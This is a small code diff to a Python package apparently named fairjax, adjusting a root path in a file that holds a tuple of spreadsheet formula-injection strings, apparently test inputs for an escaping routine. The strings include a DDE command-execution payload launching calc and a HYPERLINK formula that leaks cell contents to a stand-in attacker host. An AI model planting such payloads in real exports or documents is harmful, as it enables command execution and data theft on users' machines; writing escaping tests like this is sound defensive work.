@@ -20,7 +20,7 @@ from fairjax import results
 from fairjax.core import escape
 from fairjax.report import assessments, documents, page
 
-ROOT = pathlib.Path(escape.__file__).parent
+ROOT = pathlib.Path(escape.__file__).parents[1]
 ATTACKS = (
   *("=cmd|'/C calc'!A0", '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '  =1+1'),
   *('＝1+1', '=HYPERLINK("https://e.vil/?"&A1)', '\r\n=1', '|a|b|'),
